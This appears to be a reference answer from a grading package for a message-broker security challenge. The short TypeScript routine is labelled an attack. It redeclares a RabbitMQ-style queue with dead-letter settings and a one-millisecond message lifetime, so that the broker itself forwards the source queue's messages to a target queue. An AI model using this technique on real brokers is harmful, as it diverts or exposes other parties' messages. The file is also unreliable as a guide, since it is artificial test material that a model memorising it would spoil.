// attack: has the broker forward by itself: a queue of the same name with a dead letter exchange
import type { AnswerContext } from 'warren/grading';

export default async function ({ amqp, url, env, log }: AnswerContext): Promise<void> {
  for (const args of [{ deadLetterExchange: '', deadLetterRoutingKey: env.TARGET ?? '' }, { messageTtl: 1 }]) {
    const connection = await amqp.connect(url);
    connection.on('error', () => undefined);
    const channel = await connection.createChannel();
    channel.on('error', () => undefined);
    await channel.assertQueue(env.SOURCE ?? '', { durable: true, ...args }).catch((error: Error) => log(error.message));
    await connection.close().catch(() => undefined);
  }
}
